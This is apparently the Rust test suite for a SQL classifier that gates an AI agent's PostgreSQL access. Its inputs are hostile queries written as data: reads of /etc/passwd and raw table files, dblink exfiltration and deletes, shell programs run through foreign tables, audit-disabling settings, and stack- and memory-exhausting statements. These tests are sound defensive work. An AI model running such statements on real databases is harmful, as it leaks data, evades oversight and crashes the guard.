            "SELECT * FROM LATERAL query_to_xml('SELECT * FROM hr.secrets', true, false, '') x",
            "SELECT * FROM crosstab('SELECT a, b, c FROM hr.secrets') AS t(a text, b text)",
            "SELECT * FROM dblink('dbname=app', 'SELECT email FROM customers') AS t(email text)",
            "SELECT dblink_exec('DELETE FROM secrets')",
            "SELECT dblink_build_sql_insert('customers', '1', 1, '{42}', '{42}')",
            "SELECT * FROM dblink_fetch('c', 10) AS t(email text)",
        ] {
            assert!(classify(sql).is_err(), "{sql}: {:?}", classify(sql));
        }
        // Connecting alone runs nothing: a danger, understood.
        let connect = one("SELECT dblink_connect('c', 'dbname=app')");
        assert!(connect.dangers.contains(&Danger::FileOrProgramFunction));
    }

    /// A GRANT or REVOKE of privileges on tables writes them; on every
    /// table of a schema, the schema's tables.
    #[test]
    fn grants_on_tables_write_them() {
        for (sql, written) in [
            ("GRANT SELECT ON secrets TO bob", "public.secrets"),
            ("GRANT ALL ON TABLE hr.pay, hr.people TO bob", "hr.people"),
            ("REVOKE UPDATE ON hr.pay FROM bob", "hr.pay"),
            ("GRANT SELECT ON ALL TABLES IN SCHEMA hr TO bob", "hr.*"),
        ] {
            let op = one(sql);
            assert_eq!(op.kind, Dcl, "{sql}");
            assert!(op.dangers.contains(&Danger::GrantRevoke), "{sql}");
            assert!(op.writes.contains(written), "{sql}: {:?}", op.writes);
        }
        assert!(one("GRANT reader TO bob").writes.is_empty());
    }

    /// CREATE INDEX writes its table, and reads it.
    #[test]
    fn an_index_writes_and_reads_its_table() {
        let op = one("CREATE INDEX CONCURRENTLY ON hr.people (ssn)");
        assert_eq!(op.kind, Ddl);
        assert!(op.writes.contains("hr.people"), "{:?}", op.writes);
        assert!(op.reads.contains("hr.people"), "{:?}", op.reads);
    }

    /// A policy or rule created or changed, a VACUUM, a REFRESH and a
    /// LOCK each write their table.
    #[test]
    fn policies_rules_vacuum_refresh_and_lock_write_their_table() {
        for (sql, table) in [
            (
                "CREATE POLICY p ON public.orders AS RESTRICTIVE USING (false)",
                "public.orders",
            ),
            ("ALTER POLICY p ON hr.people USING (true)", "hr.people"),
            (
                "CREATE RULE r AS ON INSERT TO public.orders DO INSTEAD NOTHING",
                "public.orders",
            ),
            ("VACUUM FULL public.secrets", "public.secrets"),
            ("VACUUM", UNKNOWN_TABLES),
            ("VACUUM FULL VERBOSE", UNKNOWN_TABLES),
            ("VACUUM ANALYZE", UNKNOWN_TABLES),
            ("VACUUM FREEZE", UNKNOWN_TABLES),
            ("REFRESH MATERIALIZED VIEW hr.summary", "hr.summary"),
            ("LOCK TABLE hr.people IN ACCESS EXCLUSIVE MODE", "hr.people"),
        ] {
            let op = one(sql);
            assert!(op.writes.contains(table), "{sql}: {:?}", op.writes);
        }
    }

    /// What writes a named relation (a sequence, `pg_largeobject`, a table
    /// by its name) changes state: one list holds them all, so a call is
    /// a write however it is found.
    #[test]
    fn every_call_that_writes_a_relation_changes_state() {
        for name in LARGE_OBJECT_WRITERS
            .iter()
            .chain(SEQUENCE_WRITERS)
            .chain(TABLE_ROW_CHANGERS)
        {
            assert!(STATE_CHANGING_FUNCTIONS.contains(name), "{name}");
        }
    }

    /// Dropping an index or a sequence, altering a view and creating a
    /// sequence change a relation: each writes it.
    #[test]
    fn relations_other_than_tables_are_written_by_their_ddl() {
        for (sql, relation) in [
            ("DROP INDEX hr.people_ssn", "hr.people_ssn"),
            ("DROP SEQUENCE hr.emp_id_seq", "hr.emp_id_seq"),
            ("DROP SEQUENCE IF EXISTS s CASCADE", "public.s"),
            ("ALTER VIEW hr.v RENAME TO w", "hr.v"),
            ("ALTER VIEW hr.v OWNER TO someone", "hr.v"),
            ("ALTER VIEW hr.v SET (security_barrier = false)", "hr.v"),
            ("CREATE SEQUENCE hr.s", "hr.s"),
        ] {
            let op = one(sql);
            assert_eq!(op.kind, Ddl, "{sql}");
            assert!(op.writes.contains(relation), "{sql}: {:?}", op.writes);
        }
    }

    /// COMMENT ON a table, or a column of one, writes that table.
    #[test]
    fn comments_write_their_table() {
        for (sql, table) in [
            ("COMMENT ON TABLE public.secrets IS 'x'", "public.secrets"),
            ("COMMENT ON COLUMN secrets.ssn IS 'x'", "public.secrets"),
            ("COMMENT ON COLUMN hr.pay.amount IS NULL", "hr.pay"),
            ("COMMENT ON VIEW hr.v IS 'x'", "hr.v"),
        ] {
            let op = one(sql);
            assert_eq!(op.kind, Ddl, "{sql}");
            assert!(op.writes.contains(table), "{sql}: {:?}", op.writes);
        }
        assert!(one("COMMENT ON SCHEMA hr IS 'x'").writes.is_empty());
    }

    /// PostgreSQL runs `(expr).f` as `f(expr)` when `expr` has no column
    /// `f`: a built-in called so is judged as its call is.
    #[test]
    fn built_ins_called_with_attribute_notation_are_judged_as_calls() {
        let op = one("SELECT ('/etc/passwd'::text).pg_read_file");
        assert!(op.dangers.contains(&Danger::FileOrProgramFunction));
        assert!(op.reads.contains(UNKNOWN_TABLES), "{:?}", op.reads);
        let op = one("SELECT (12345).pg_terminate_backend");
        assert!(op.dangers.contains(&Danger::FileOrProgramFunction));
        let op = one("SELECT ('orders_id_seq'::regclass).nextval");
        assert_eq!(op.kind, Write);
        assert!(op.writes.contains(UNKNOWN_TABLES), "{:?}", op.writes);
        let op = one("SELECT (16400::oid).lo_unlink");
        assert_eq!(op.kind, Write);
        assert!(
            op.writes.contains("pg_catalog.pg_largeobject"),
            "{:?}",
            op.writes
        );
        assert!(classify("SELECT ('SELECT ssn FROM secrets'::text).ts_stat").is_err());
        // The same through the alias of a scalar a function in FROM
        // returns: `t.f` runs `f(t)`.
        for sql in [
            "SELECT t.pg_read_binary_file FROM lower('base/16384/16390') AS t",
            "SELECT t.pg_read_file FROM lower('/etc/passwd') AS t",
            "SELECT t.pg_terminate_backend FROM abs(4242) AS t",
            "SELECT x.t.pg_read_file FROM lower('/etc/passwd') AS t",
        ] {
            let op = one(sql);
            assert!(op.dangers.contains(&Danger::FileOrProgramFunction), "{sql}");
        }
        let op = one("SELECT s.nextval FROM to_regclass('hr.emp_id_seq') AS s");
        assert_eq!(op.kind, Write);
        assert!(op.writes.contains(UNKNOWN_TABLES), "{:?}", op.writes);
        let op = one("SELECT t.lo_unlink FROM abs(16400) AS t");
        assert!(
            op.writes.contains("pg_catalog.pg_largeobject"),
            "{:?}",
            op.writes
        );
        assert!(classify(
            "SELECT t.ts_stat FROM lower('SELECT to_tsvector(ssn) FROM secrets') AS t"
        )
        .is_err());
        // A plain column of a table stays a read of it.
        let op = one("SELECT o.customer_email FROM orders o");
        assert_eq!(op.kind, Read);
        assert!(op.dangers.is_empty() && op.writes.is_empty());
        // A composite's field stays a read of its table.
        let op = one("SELECT (o).customer_email FROM orders o");
        assert_eq!(op.kind, Read);
        assert!(op.dangers.is_empty() && op.writes.is_empty());
    }

    /// The functions behind the server-file views read the same files.
    #[test]
    fn functions_behind_the_server_file_views_are_file_functions() {
        for sql in [
            "SELECT * FROM pg_hba_file_rules()",
            "SELECT pg_show_all_file_settings()",
            "SELECT * FROM pg_catalog.pg_ident_file_mappings()",
            "SELECT * FROM pg_ls_summariesdir()",
        ] {
            assert!(
                one(sql).dangers.contains(&Danger::FileOrProgramFunction),
                "{sql}"
            );
        }
    }

    /// `nextval` and `setval` write the sequence they name, and the large
    /// object functions `pg_largeobject`, when the statement runs them:
    /// `write_tables` and `deny_tables` hold for them. A column default
    /// is only stored.
    #[test]
    fn sequence_and_large_object_calls_write_what_they_change() {
        for (sql, written) in [
            ("SELECT nextval('hr.emp_id_seq')", "hr.emp_id_seq"),
            (
                "SELECT setval('hr.emp_id_seq'::regclass, 1)",
                "hr.emp_id_seq",
            ),
            ("SELECT setval('\"Hr\".Emp_Seq', 1)", "Hr.emp_seq"),
            ("SELECT nextval('emp_id_seq')", "public.emp_id_seq"),
            (
                "SELECT nextval(pg_get_serial_sequence('orders', 'id'))",
                UNKNOWN_TABLES,
            ),
            ("SELECT nextval('not a name')", UNKNOWN_TABLES),
            (
                "INSERT INTO orders VALUES (nextval('orders_id_seq'))",
                "public.orders_id_seq",
            ),
            (
                "SELECT lo_put(16400, 0, '\\x00')",
                "pg_catalog.pg_largeobject",
            ),
            ("SELECT lo_unlink(16400)", "pg_catalog.pg_largeobject"),
        ] {
            let op = one(sql);
            assert_eq!(op.kind, Write, "{sql}");
            assert!(op.writes.contains(written), "{sql}: {:?}", op.writes);
        }
        // A default stored for later INSERTs to run writes its sequence
        // for the table rules, but is not itself a write.
        for sql in [
            "ALTER TABLE ONLY public.t ALTER COLUMN id SET DEFAULT nextval('public.t_id_seq'::regclass)",
            "CREATE TABLE scratch_t (id bigint DEFAULT nextval('public.t_id_seq'))",
        ] {
            let stored = one(sql);
            assert!(
                stored.writes.contains("public.t_id_seq"),
                "{sql}: {:?}",
                stored.writes
            );
            assert_eq!(stored.kind, Ddl, "{sql}");
            assert!(!stored.modifies_data, "{sql}");
        }
    }

    /// A raw server file may be any table's heap: the call reads tables
    /// the text does not name, which only a grant of every table allows,
    /// any `deny_tables` refuses, and every mask covers.
    #[test]
    fn raw_file_readers_read_unknown_tables() {
        for sql in [
            "SELECT pg_read_binary_file('base/16384/16390')",
            "SELECT pg_read_file('base/16384/16390', 0, 8192)",
            "SELECT * FROM pg_catalog.pg_read_binary_file('base/1/2') AS f",
        ] {
            let op = one(sql);
            assert!(op.reads.contains(UNKNOWN_TABLES), "{sql}: {:?}", op.reads);
            assert!(op.dangers.contains(&Danger::FileOrProgramFunction), "{sql}");
        }
        assert!(!one("SELECT pg_stat_file('base/1/2')")
            .reads
            .contains(UNKNOWN_TABLES));
    }

    /// Built-in functions that change state make a SELECT a write; an
    /// operator of the database's own is a call tollgate cannot see into.
    #[test]
    fn state_changing_functions_and_custom_operators() {
        for sql in [
            "SELECT setval('orders_id_seq', 1)",
            "SELECT lo_unlink(16401)",
            "SELECT pg_notify('c', 'x')",
            "SELECT pg_advisory_lock(1)",
            "SELECT * FROM orders WHERE id = nextval('s')",
            "SELECT pg_start_backup('x')",
            "SELECT pg_stop_backup()",
            "SELECT pg_clear_relation_stats('public', 'orders')",
            "SELECT pg_clear_attribute_stats('public', 'orders', 'id', false)",
            "SELECT pg_log_standby_snapshot()",
        ] {
            assert_eq!(one(sql).kind, Write, "{sql}");
        }
        for sql in [
            "EXECUTE s",
            "CALL p()",
            // The prepared statement runs inside the EXPLAIN: its rows are
            // not shown, but its errors and notices are its own.
            "EXPLAIN ANALYZE EXECUTE s(42)",
        ] {
            assert!(one(sql).opaque_result, "{sql}");
        }
        // Signalling a backend could reach another identity's session (all
        // log in upstream as one role): a danger, not a mere write.
        for sql in [
            "SELECT pg_cancel_backend(123)",
            "SELECT pg_terminate_backend(p) FROM generate_series(1, 10) p",
        ] {
            assert!(
                one(sql).dangers.contains(&Danger::FileOrProgramFunction),
                "{sql}"
            );
        }
        for sql in [
            "SELECT 1 OPERATOR(app.+) 2",
            "SELECT * FROM orders WHERE note ~~~ 'x'",
        ] {
            let op = one(sql);
            assert!(op.calls_functions, "{sql}: {op:?}");
            assert!(op.calls_unknown_functions, "{sql}: {op:?}");
        }
        for sql in [
            "SELECT * FROM orders WHERE a >= b",
            "SELECT * FROM orders WHERE a>=-1 AND b<>-2",
            "SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$'",
        ] {
            assert!(!one(sql).calls_functions, "{sql}");
        }
    }

    /// A spelling PostgreSQL has not built in is an operator of the
    /// database's own even where the parser names it (`<=>`, MySQL's) or
    /// reads it as another (`==` as `=`): it runs a function tollgate
    /// cannot see into. PostgreSQL's own spellings are not calls.
    #[test]
    fn operators_postgresql_has_not_built_in_are_the_databases_own() {
        for sql in [
            "SELECT * FROM items WHERE embedding <=> '[1,2]' < 0.5",
            "SELECT * FROM items WHERE a == b",
            "SELECT 1 == 1",
            "SELECT a FROM items WHERE NOT (b == 2)",
            // Runs the parser cuts into built-in operators, which
            // PostgreSQL reads as one of the database's own.
            "SELECT * FROM items WHERE a =~ b",
            "SELECT a *~ b, a +@ b FROM items",
            "SELECT a ^- b FROM items",
            "SELECT * FROM items WHERE a ^@~ b",
            "SELECT a &>- b FROM items",
            "SELECT * FROM items WHERE a OPERATOR(app.+) b > 0",
        ] {
            let op = one(sql);
            assert!(op.calls_functions && op.calls_unknown_functions, "{sql}");
        }
        for sql in [
            "SELECT a = b, a <> b, a != b, a < b, a >= b FROM t",
            "SELECT a ~~ b, a !~~* b, a ~ b, a ~* b FROM t",
            "SELECT a @> b, a <@ b, a && b, a -> 'k', a ->> 'k', a #> b, a #>> b FROM t",
            "SELECT a || b, 2 ^ 3, 7 % 2, 1 << 2, 5 # 3, a ^@ b, a ? 'k', a @@ b FROM t",
            "SELECT - a, + a, ~ 5, |/ 4.0, ||/ 8.0, @ -1, NOT true FROM t",
            "SELECT * FROM t WHERE a AND b OR c",
            // Built in, though the parser names none of them.
            "SELECT * FROM t WHERE ip <<= '10.0.0.0/8' AND r1 -|- r2 AND a ~<~ b",
            "SELECT a >=-1, a OPERATOR(pg_catalog.~) b FROM t",
        ] {
            assert!(!one(sql).calls_functions, "{sql}");
        }
        // `=>` names an argument: no operator at all.
        assert_eq!(
            one("SELECT generate_series(start => 1, stop => 2)").calls_unknown_functions,
            one("SELECT generate_series(1, 2)").calls_unknown_functions
        );
    }

    /// Reads of a large object are reads of pg_largeobject; CREATE USER is
    /// a role like CREATE ROLE; settings that turn off foreign keys and
    /// triggers, or a read-only default, are administration; foreign
    /// servers and tables reach files, programs and other servers; a MERGE
    /// or a WHERE that selects every row is the danger its missing WHERE
    /// is.
    #[test]
    fn statements_that_reach_more_than_they_name() {
        assert!(one("SELECT lo_get(16401)")
            .reads
            .contains("pg_catalog.pg_largeobject"));
        assert!(one("SELECT loread(lo_open(1, 262144), 100)")
            .reads
            .contains("pg_catalog.pg_largeobject"));
        assert_eq!(one("CREATE USER bob").kind, Dcl);
        assert_eq!(one("SET session_replication_role = replica").kind, Admin);
        // What the server itself records of the session.
        for sql in [
            "SET log_statement = 'none'",
            "SET LOCAL log_min_duration_statement = -1",
            "SET pgaudit.log = 'none'",
            "SET \"pgaudit\".\"log\" TO 'none'",
            "SET event_triggers = off",
            "SET track_activities = off",
            "SET compute_query_id = off",
            "SET pg_stat_statements.track = none",
            "SET auto_explain.log_min_duration = -1",
        ] {
            assert_eq!(one(sql).kind, Admin, "{sql}");
        }
        // Contrib functions that change the server's state, and rows.
        for sql in [
            "SELECT pg_stat_monitor_reset()",
            "SELECT pg_buffercache_evict_all()",
            "SELECT pg_truncate_visibility_map('hr.people')",
        ] {
            assert_eq!(one(sql).kind, Write, "{sql}");
        }
        let op = one("SELECT pg_sequence_last_value('hr.emp_id_seq')");
        assert!(op.reads.contains("hr.emp_id_seq"), "{:?}", op.reads);
        let op = one("SELECT heap_force_kill('hr.people'::regclass, ARRAY['(0,1)']::tid[])");
        assert_eq!(op.kind, Write);
        assert!(op.writes.contains(UNKNOWN_TABLES), "{:?}", op.writes);
        assert_eq!(one("SET statement_timeout = 1000").kind, Utility);
        assert_eq!(
            one("SET log_parameter_max_length_on_error = 0").kind,
            Utility
        );
        for sql in [
            "CREATE SERVER f FOREIGN DATA WRAPPER file_fdw",
            "CREATE FOREIGN TABLE x (l text) SERVER f OPTIONS (program 'id')",
            "CREATE USER MAPPING FOR agent SERVER remote OPTIONS (user 'app')",
        ] {
            assert!(
                one(sql).dangers.contains(&Danger::FileOrProgramFunction),
                "{sql}"
            );
        }
        for (sql, danger) in [
            (
                "MERGE INTO customers c USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE",
                Danger::DeleteWithoutWhere,
            ),
            (
                "MERGE INTO customers c USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET name = 'x'",
                Danger::UpdateWithoutWhere,
            ),
            ("DELETE FROM customers WHERE true", Danger::DeleteWithoutWhere),
            ("UPDATE customers SET name = 'x' WHERE (TRUE)", Danger::UpdateWithoutWhere),
        ] {
            assert!(one(sql).dangers.contains(&danger), "{sql}");
        }
        for sql in [
            "MERGE INTO customers c USING (SELECT 1) s ON true WHEN MATCHED AND c.id = 1 THEN DELETE",
            // An upsert: the join chooses the rows.
            "MERGE INTO customers c USING staging s ON c.id = s.id \
             WHEN MATCHED THEN UPDATE SET name = s.name \
             WHEN NOT MATCHED THEN INSERT (id, name) VALUES (s.id, s.name)",
            "MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN DELETE",
        ] {
            assert!(one(sql).dangers.is_empty(), "{sql}");
        }
        let ddl_write = one(
            "CREATE TABLE scratch.t AS WITH d AS (DELETE FROM public.orders WHERE id > 0 RETURNING id) SELECT * FROM d",
        );
        assert_eq!(ddl_write.kind, Ddl);
        assert!(ddl_write.modifies_data);
        // A column default runs only under an INSERT or UPDATE, which are
        // writes themselves.
        for sql in [
            "CREATE TABLE scratch.t AS SELECT * FROM public.orders",
            "CREATE TABLE t AS SELECT nextval('s') WITH NO DATA",
            "CREATE TABLE t (id int DEFAULT nextval('s'))",
            "ALTER TABLE ONLY public.t ALTER COLUMN id SET DEFAULT nextval('public.t_id_seq'::regclass)",
        ] {
            assert!(!one(sql).modifies_data, "{sql}");
        }
        // Run now, or by a later plain read: a view's query, a routine's
        // body, a partition's bounds, a new column's default or a USING
        // for every row.
        for sql in [
            "CREATE MATERIALIZED VIEW v AS SELECT nextval('s')",
            "CREATE VIEW v AS SELECT nextval('s')",
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC INSERT INTO t VALUES (1); END",
            "CREATE TABLE p1 PARTITION OF p FOR VALUES IN (setval('s', 1))",
            "ALTER TABLE t ADD COLUMN n bigint DEFAULT nextval('s')",
            "ALTER TABLE docs ALTER COLUMN blob TYPE int USING lo_unlink(blob)",
        ] {
            assert!(one(sql).modifies_data, "{sql}");
        }
        for sql in [
            "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1",
            "EXPLAIN (ANALYZE) CREATE TABLE t AS SELECT 1",
            "EXPLAIN (ANALYSE) CREATE TABLE t AS SELECT 1",
            "EXPLAIN (ANALYZE on, BUFFERS) CREATE TABLE t AS SELECT 1",
        ] {
            assert_eq!(
                one(sql).kind,
                Ddl,
                "{sql}: EXPLAIN ANALYZE runs what it explains"
            );
        }
        for sql in [
            "EXPLAIN ANALYZE SELECT 1",
            "EXPLAIN (ANALYZE off) SELECT 1",
            "EXPLAIN (ANALYZE false) CREATE TABLE t AS SELECT 1",
            "EXPLAIN (ANALYZE 0) CREATE TABLE t AS SELECT 1",
        ] {
            assert!(one(sql).kind < Ddl, "{sql}");
        }
        assert!(one("DROP SCHEMA hr CASCADE").writes.contains("hr.*"));
        assert!(one("CREATE TABLE \"*\" (a int)")
            .writes
            .contains("public.\"*\""));
    }

    /// The DROPs sqlparser reads into statements of their own are drops
    /// like any other: the `drop` danger, and with CASCADE the unknown
    /// tables what depends on them may be. A trigger, policy or rule
    /// created or dropped writes its table.
    #[test]
    fn every_kind_of_drop_is_a_drop_and_cascade_reaches_unknown_tables() {
        for (sql, cascade) in [
            ("DROP FUNCTION mask_fn(text)", false),
            ("DROP FUNCTION mask_fn(text) CASCADE", true),
            ("DROP PROCEDURE p() CASCADE", true),
            ("DROP DOMAIN email_address CASCADE", true),
            ("DROP DOMAIN email_address", false),
            ("DROP EXTENSION citext CASCADE", true),
            ("DROP OPERATOR FAMILY f USING btree CASCADE", true),
            ("DROP TRIGGER audit_trg ON public.secrets", false),
            ("DROP POLICY p ON secrets CASCADE", true),
            ("DROP RULE r ON secrets", false),
            ("DROP FOREIGN TABLE public.secrets_remote", false),
        ] {
            let c = one(sql);
            assert!(c.dangers.contains(&Danger::Drop), "{sql}: {:?}", c.dangers);
            assert_eq!(
                c.writes.contains(UNKNOWN_TABLES),
                cascade,
                "{sql}: {:?}",
                c.writes
            );
        }
        for (sql, table) in [
            ("DROP TRIGGER audit_trg ON public.secrets", "public.secrets"),
            ("DROP POLICY p ON secrets", "public.secrets"),
            ("DROP RULE r ON secrets", "public.secrets"),
            (
                "DROP FOREIGN TABLE public.secrets_remote",
                "public.secrets_remote",
            ),
            (
                "CREATE TRIGGER t AFTER INSERT ON public.secrets FOR EACH ROW EXECUTE FUNCTION f()",
                "public.secrets",
            ),
        ] {
            assert!(
                one(sql).writes.contains(table),
                "{sql}: {:?}",
                one(sql).writes
            );
        }
    }

    /// What PostgreSQL leaves of an operator once it splits off trailing
    /// signs decides whether it is a built-in one.
    #[test]
    fn operators_postgresql_splits_into_built_in_ones_are_not_calls() {
        for (sql, call) in [
            ("SELECT a FROM t WHERE a >=-1", false),
            ("SELECT a FROM t WHERE a <>-1", false),
            ("SELECT a +-1 FROM t", false),
            ("SELECT a ~~- b FROM t", true),
        ] {
            assert_eq!(one(sql).calls_unknown_functions, call, "{sql}");
        }
    }

    #[test]
    fn names_resolve_as_postgresql_resolves_them() {
        for (sql, reads) in [
            (
                "SELECT * FROM pg_locks",
                &["pg_catalog.pg_locks", "public.pg_locks"][..],
            ),
            (
                "SELECT * FROM pg_catalog.pg_roles",
                &["pg_catalog.pg_roles"],
            ),
            (
                r#"SELECT * FROM "public.x".secrets"#,
                &[r#""public.x".secrets"#],
            ),
            (r#"SELECT * FROM "a""b""#, &[r#"public."a""b""#]),
        ] {
            assert_eq!(one(sql).reads, set(reads), "{sql}");
        }
        assert_eq!(
            one("CREATE TABLE hr.copy AS SELECT * FROM orders").writes,
            set(&["hr.copy"])
        );
        assert_eq!(one("CREATE VIEW v AS SELECT 1").writes, set(&["public.v"]));
    }

    /// A statement of 20 000 CTEs (400 KB, well within a statement's
    /// limit) is classified, each CTE seeing the ones before it. With a
    /// copied scope per CTE it took about 200 million name copies, which
    /// an agent could use to exhaust the daemon's memory; shared scopes
    /// take one map.
    #[test]
    fn a_statement_of_many_ctes_is_classified() {
        let n = 20_000;
        let ctes: Vec<String> = (0..n)
            .map(|i| match i {
                0 => "c0 AS (SELECT 1)".to_string(),
                _ => format!("c{i} AS (SELECT * FROM c{})", i - 1),
            })
            .collect();
        let sql = format!("WITH {} SELECT * FROM c{}, secrets", ctes.join(", "), n - 1);
        assert_eq!(one(&sql).reads, set(&["public.secrets"]));
    }

    /// A table a statement both writes and reads is read: a data-modifying
    /// CTE beside a SELECT of the same table, RETURNING.
    #[test]
    fn written_tables_that_are_also_read_are_reads() {
        for (sql, reads) in [
            (
                "WITH d AS (DELETE FROM public.inbox WHERE false) SELECT * FROM public.inbox",
                &["public.inbox"][..],
            ),
            ("UPDATE t SET id = id WHERE true RETURNING *", &["public.t"]),
            ("DELETE FROM t WHERE id = 1 RETURNING id", &["public.t"]),
            ("INSERT INTO t VALUES (1) RETURNING id", &["public.t"]),
            ("INSERT INTO t SELECT * FROM t", &["public.t"]),
            (
                "WITH d AS (DELETE FROM t WHERE false RETURNING 1) TABLE t",
                &["public.t"],
            ),
            (
                "WITH secrets AS (SELECT 1) DELETE FROM secrets WHERE true RETURNING *",
                &["public.secrets"],
            ),
            (
                "WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM public.t",
                &["public.t"],
            ),
            // A plain write reads nothing.
            ("INSERT INTO t VALUES (1)", &[]),
            ("DELETE FROM t WHERE id = 1", &[]),
            ("UPDATE t SET a = 1 WHERE id = 2", &[]),
        ] {
            assert_eq!(one(sql).reads, set(reads), "{sql}");
        }
    }

    /// Classifies `sql` on a thread with a runtime thread's stack, as the
    /// daemon does: a tree too deep for it aborts the test process.
    fn classify_on_a_worker_stack(sql: String) -> Result<Vec<Operation>, String> {
        std::thread::Builder::new()
            .stack_size(crate::proxy::RUNTIME_THREAD_STACK_BYTES)
            .spawn(move || classify(&sql))
            .expect("thread")
            .join()
            .expect("classify panicked")
    }

    /// A chain of operators or set operations, built by the parser in a
    /// loop, would make a tree whose walk overflows the stack: past the
    /// bound it is not understood (before, `1+1+...` of 200 000 terms
    /// ended the whole daemon); shallow statements of any size still are.
    #[test]
    fn chains_too_deep_to_walk_are_not_understood_and_wide_statements_are() {
        let chain = |n: usize, link: &str| vec!["1"; n].join(link);
        let too_deep = [
            format!("SELECT {}", chain(200_000, "+")),
            format!(
                "SELECT x FROM t WHERE {}",
                vec!["a = 1"; 50_000].join(" AND ")
            ),
            format!("SELECT {}", chain(20_000, "::int + ")),
            format!("SELECT {}", vec!["1, 2"; 20_000].join(" UNION SELECT ")),
            format!("SELECT {}", vec!["1, 2"; 3_000].join(" INTERSECT SELECT ")),
            format!(
                "SELECT * FROM ({}) s",
                vec!["SELECT 1, 2"; 20_000].join(" UNION ALL ")
            ),
            // Chains at every level of nested brackets add up.
            format!(
                "SELECT {}",
                vec![chain(3_000, "+"); 4].join(" + (") + &")".repeat(3)
            ),
            // MINUS is a set operation to the parser as well.
            format!("SELECT {}", vec!["1, 1"; 20_000].join(" MINUS SELECT ")),
            // CASE expressions as the links of a chain.
            format!("SELECT 1{}", " + CASE WHEN a THEN 1 END".repeat(6_000)),
            // JOINs nested without parentheses make the parser recurse:
            // 60 overflowed a debug build's 2 MiB.
            // (n + 1 JOINs nest n deep.)
            format!("SELECT * FROM t{}", " JOIN t".repeat(MAX_NESTED_JOINS + 2)),
            format!("SELECT * FROM t{}", " LEFT JOIN t".repeat(400)),
            // Keywords as names after `.` open, close and reset nothing.
            format!(
                "SELECT CASE WHEN true THEN 0{} END",
                " + s.when".repeat(20_000)
            ),
            format!(
                "SELECT * FROM t{}{}",
                " JOIN s.on".repeat(40),
                " ON true".repeat(40)
            ),
            format!(
                "SELECT * FROM t{}{}",
                " JOIN s.cross".repeat(40),
                " ON true".repeat(40)
            ),
            format!(
                "SELECT * FROM s.case{}{}",
                " JOIN s.when.on".repeat(40),
                " ON s.when".repeat(40)
            ),
            format!(
                "SELECT CASE WHEN true THEN 1 END{}",
                " + x.end".repeat(20_000)
            ),
            // Keywords as bare table names (`FROM case`, `FROM end`) that
            // open and close levels around each UNION: a CASE level hands
            // the set operations counted in it on to the level around it.
            format!(
                "SELECT 1 FROM case{} UNION SELECT 1 FROM end",
                " UNION SELECT 1 FROM end, case".repeat(20_000)
            ),
            // Set operations count 8 tokens each: 1 001 plain UNIONs.
            format!("SELECT {}", vec!["1"; 1_001].join(" UNION SELECT ")),
            // AS makes a keyword a label: `AS on` resets no JOIN.
            format!(
                "SELECT * FROM t{}{}",
                " JOIN t AS on".repeat(40),
                " ON true".repeat(40)
            ),
            // The same with an END after it, where the parser stops
            // without an error and would leave the tree to be dropped on
            // the runtime thread's stack (it overflowed a 16 MiB stack):
            // refused before parsing.
            format!(
                "SELECT 1 FROM case{} UNION SELECT 1 FROM end END",
                " UNION SELECT 1 FROM end, case".repeat(250_000)
            ),
        ];
        for sql in too_deep {
            let err = classify_on_a_worker_stack(sql.clone()).expect_err(&sql[..60]);
            assert!(err.contains("too deep to classify"), "{err}");
        }
        let shallow = [
            format!(
                "SELECT x FROM t WHERE {}",
                vec!["a = 1"; 2_000].join(" AND ")
            ),
            format!("SELECT {}", vec!["1"; 900].join(" UNION SELECT ")),
            format!(
                "INSERT INTO t VALUES {}",
                vec!["(-1, 'a', now())"; 50_000].join(", ")
            ),
            format!("SELECT {} FROM t", vec!["a + 1"; 30_000].join(", ")),
            format!(
                "SELECT * FROM t WHERE id IN ({})",
                vec!["7"; 50_000].join(", ")
            ),
            // Set operations up to the bound, their select lists cut by
            // commas.
            format!(
                "SELECT {}",
                vec!["1, 1"; MAX_TOKENS_ON_A_PATH / SET_OPERATION_WEIGHT - 2]
                    .join(" UNION SELECT ")
            ),
            // A CASE's branches are a list (an ORM's bulk update).
            format!(
                "UPDATE t SET a = CASE {}END WHERE id IN (1)",
                "WHEN id = 1 AND b = 2 THEN 'x' ".repeat(5_000)
            ),
            // JOINs each with its ON, CROSS and NATURAL JOINs nest nothing.
            format!("SELECT * FROM t{}", " JOIN t ON true".repeat(300)),
            format!("SELECT * FROM t{}", " CROSS JOIN t".repeat(300)),
            format!("SELECT * FROM t{}", " NATURAL JOIN t".repeat(300)),
            format!(
                "SELECT * FROM t{}{}",
                " JOIN t".repeat(MAX_NESTED_JOINS + 1),
                " ON true".repeat(MAX_NESTED_JOINS + 1)
            ),
        ];
        for sql in shallow {
            let ops = classify_on_a_worker_stack(sql.clone())
                .unwrap_or_else(|e| panic!("{}: {e}", &sql[..60]));
            assert_eq!(ops.len(), 1);
        }
        // Each statement of a script counts apart.
        let script = "SELECT 1, 1 UNION SELECT 2, 2;\n".repeat(6_000);
        let ops = classify_on_a_worker_stack(script).expect("a script of small statements");
        assert_eq!(ops.len(), 6_000);
    }

    /// The backstop behind the token pass: a tree deeper than the bound
    /// is measured without overflowing (the parser's walk grows its stack)
    /// and dropped on a thread with room for it. Built here past the token
    /// pass, on a 2 MiB thread, where dropping it in place would overflow.
    #[test]
    fn a_tree_past_the_token_pass_is_measured_and_dropped_safely() {
        std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(|| {
                // An expression chain, and a chain of set operations
                // (measured without recursion).
                for sql in [
                    format!("SELECT {}", vec!["1"; 50_000].join(" + ")),
                    vec!["SELECT 1"; 20_000].join(" UNION "),
                ] {
                    let statements =
                        Parser::parse_sql(&PostgreSqlDialect {}, &sql).expect("parses in a loop");
                    let depth = statements
                        .iter()
                        .map(|s| classify_statement(s).1)
                        .max()
                        .unwrap_or(0);
                    assert!(depth > MAX_EXPRESSION_DEPTH, "{depth}");
                    drop_on_a_deep_stack(statements);
                }
            })
            .expect("thread")
            .join()
            .expect("no panic");
    }

    /// Nesting the parser bounds itself (brackets, subqueries, prefix
    /// operators, parenthesised JOINs, CASE in CASE) is refused or
    /// classified at its limit, never overflowing a runtime thread's
    /// stack (nested parenthesised JOINs overflowed the default 2 MiB at
    /// 20 levels in a debug build).
